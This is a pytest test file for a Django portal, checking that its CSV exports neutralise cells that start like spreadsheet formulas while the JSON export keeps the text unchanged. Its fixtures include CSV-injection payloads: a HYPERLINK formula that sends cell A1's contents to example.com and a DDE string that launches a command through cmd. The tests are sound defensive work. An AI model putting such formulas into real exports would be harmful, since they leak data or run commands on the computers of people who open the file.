"""CSV injection (issue 25, item 4): no cell of a CSV the portal writes starts like a
spreadsheet formula; the JSON of the same data keeps every text as it is."""

import csv
import io
import json
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import reverse

from portal.spreadsheets import csv_writer, neutralise
from tests.communities.factories import CommunityFactory
from tests.practice.factories import AgreementFactory, StoryFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://example.com/?x="&A1,"Click")'
STARTS = {
    "title": FORMULA,
    "problem": "+371 SUM(1+1)",
    "actions": "-2+3+cmd|' /C calc'!A0",
    "results": "@SUM(1,2)",
    "partners": "\t=1+1",
    "costs": "\r=1+1",
}


def download(client, dataset, fmt):
    response = client.get(reverse("practice:open-data-download", args=[dataset, fmt]))
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode("utf-8").lstrip("\ufeff")


def test_the_open_data_csv_quotes_every_formula_and_the_json_keeps_the_text(client):
    community = CommunityFactory(name="=1+1 kopiena", description="-teksts ar svītru")
    StoryFactory(community=community, **STARTS)
    AgreementFactory(community=community, title="@līgums", amount=Decimal("1200.50"))

    stories = list(csv.DictReader(io.StringIO(download(client, "stories", "csv"), newline="")))
    for field, text in STARTS.items():
        assert stories[0][field] == "'" + text, field
    assert stories[0]["community"] == "'=1+1 kopiena"
    communities = list(csv.DictReader(io.StringIO(download(client, "communities", "csv"))))
    assert communities[0]["name"] == "'=1+1 kopiena"
    assert communities[0]["description"] == "'-teksts ar svītru"
    agreements = list(csv.DictReader(io.StringIO(download(client, "agreements", "csv"))))
    assert agreements[0]["title"] == "'@līgums"
    assert agreements[0]["amount"] == "1200.50"  # a number stays a number

    data = json.loads(download(client, "stories", "json"))
    assert {field: data["rows"][0][field] for field in STARTS} == STARTS


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Talka = prieks", "Talka = prieks"),
        ("", ""),
        (-5, -5),
        (Decimal("-1.5"), Decimal("-1.5")),
        (None, None),
    ],
)
def test_neutralise_quotes_text_that_starts_like_a_formula_only(value, written):
    assert neutralise(value) == written


def test_the_writer_neutralises_each_cell():
    out = io.StringIO()
    csv_writer(out).writerows([["=A1", "ok", 3]])
    assert out.getvalue() == "'=A1,ok,3\r\n"


def test_every_csv_the_portal_writes_goes_through_the_kit():
    """A new export written with ``csv.writer`` directly would carry formulas again."""
    root = Path(settings.BASE_DIR)
    offenders = [
        str(path.relative_to(root))
        for app in (
            "portal",
            "communities",
            "grants",
            "consultations",
            "councils",
            "front",
            "petitions",
        )
        for path in (root / app).rglob("*.py")
        if path.name != "spreadsheets.py"
        and re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
